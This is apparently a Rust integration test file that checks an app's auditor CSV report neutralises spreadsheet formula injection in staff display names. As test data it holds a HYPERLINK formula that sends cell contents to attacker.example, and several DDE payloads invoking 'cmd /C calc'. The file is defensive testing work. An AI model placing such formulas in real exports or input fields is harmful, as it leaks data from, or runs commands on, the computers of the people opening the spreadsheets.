//! Finding 7: CSV formula injection. A CSP manager names a new staff account
//! `=HYPERLINK(...)`; the auditor's `/reports/csp-access` CSV must show it as text, never as
//! a formula. Every CSV goes through `casebridge::spreadsheet` (whose unit tests hold the
//! rule); these tests follow the value from the API to the auditor's file.
use chrono::{Duration, SecondsFormat, Utc};
use reqwest::StatusCode;
use serde_json::json;

use crate::helpers::{TestApp, spawn_app};

/// A CSP manager asks for a Northside account named `display_name`.
async fn northside_account_named(app: &TestApp, username: &str, display_name: &str) {
    let manager = app.login("csp-north-manager").await;
    let created = app
        .post(
            "/api/v1/users",
            &manager,
            json!({
                "username": username,
                "display_name": display_name,
                "email": format!("{username}@northside.example"),
                "organisation_id": app.organisation_id(casebridge::demo::NORTHSIDE),
                "roles": ["csp_worker"],
                "clearance": "OFFICIAL",
            }),
        )
        .await;
    assert_eq!(created.status, StatusCode::CREATED, "{}", created.body);
}

/// The auditor's CSP access report on Northside as CSV: its raw text and its rows by
/// column name.
async fn northside_csv(app: &TestApp) -> (String, Vec<std::collections::BTreeMap<String, String>>) {
    let auditor = app.login("auditor").await;
    let time = |at: chrono::DateTime<Utc>| at.to_rfc3339_opts(SecondsFormat::Secs, true);
    let now = Utc::now();
    let path = format!(
        "/api/v1/reports/csp-access?organisation_id={}&from={}&to={}",
        app.organisation_id(casebridge::demo::NORTHSIDE),
        time(now - Duration::hours(1)),
        time(now + Duration::minutes(5)),
    );
    let response = app
        .get_with(&path, &auditor, &[("Accept", "text/csv")])
        .await;
    assert_eq!(response.status, StatusCode::OK, "{}", response.body);
    let text = response.body.as_str().expect("CSV text").to_owned();
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let header: Vec<String> = reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_owned)
        .collect();
    let rows = reader
        .records()
        .map(|row| {
            header
                .iter()
                .cloned()
                .zip(row.unwrap().iter().map(str::to_owned))
                .collect()
        })
        .collect();
    (text, rows)
}

fn row_of<'a>(
    rows: &'a [std::collections::BTreeMap<String, String>],
    username: &str,
) -> &'a std::collections::BTreeMap<String, String> {
    rows.iter()
        .find(|row| row["username"] == username)
        .unwrap_or_else(|| panic!("no row for {username}"))
}

#[actix_web::test]
async fn a_formula_in_a_display_name_reaches_the_auditors_csv_as_text() {
    let app = spawn_app().await;
    let formula = r#"=HYPERLINK("https://attacker.example/?d="&A2,"Open")"#;
    northside_account_named(&app, "north-formula", formula).await;

    let (text, rows) = northside_csv(&app).await;
    assert_eq!(
        row_of(&rows, "north-formula")["display_name"],
        format!("'{formula}")
    );
    assert!(!text.contains("\"=HYPERLINK"), "{text}");
    assert!(!text.contains(",=HYPERLINK"), "{text}");
}

#[actix_web::test]
async fn every_character_that_starts_a_formula_is_neutralised() {
    let app = spawn_app().await;
    let names = [
        ("north-at", "@SUM(1+1)*cmd|' /C calc'!A0"),
        ("north-plus", "+1+cmd|' /C calc'!A0"),
        ("north-minus", "-1+cmd|' /C calc'!A0"),
        ("north-equals", "=1+1"),
        ("north-fullwidth", "＝1+1"),
    ];
    // Leading whitespace, tabs and carriage returns before a formula are neutralised too
    // (`spreadsheet::tests`); names are now trimmed and refuse control characters (finding
    // 12), so none reaches a report through a display name.
    for (username, display_name) in names {
        northside_account_named(&app, username, display_name).await;
    }

    let (_, rows) = northside_csv(&app).await;
    for (username, display_name) in names {
        assert_eq!(
            row_of(&rows, username)["display_name"],
            format!("'{display_name}"),
            "{username}"
        );
    }
}

#[actix_web::test]
async fn ordinary_names_and_counts_are_written_unchanged() {
    let app = spawn_app().await;
    northside_account_named(&app, "north-plain", "Alex O'Brien-Smith").await;

    let (_, rows) = northside_csv(&app).await;
    let row = row_of(&rows, "north-plain");
    assert_eq!(row["display_name"], "Alex O'Brien-Smith");
    assert_eq!(row["requests"], "0");
    assert_eq!(row["kind"], "person");
}

#[actix_web::test]
async fn every_cell_is_quoted_so_no_other_separator_can_split_one() {
    let app = spawn_app().await;
    northside_account_named(&app, "north-semicolon", "Team; =1+1").await;

    let (text, rows) = northside_csv(&app).await;
    assert_eq!(
        row_of(&rows, "north-semicolon")["display_name"],
        "Team; =1+1"
    );
    for line in text.lines() {
        assert!(line.starts_with('"') && line.ends_with('"'), "{line}");
    }
}
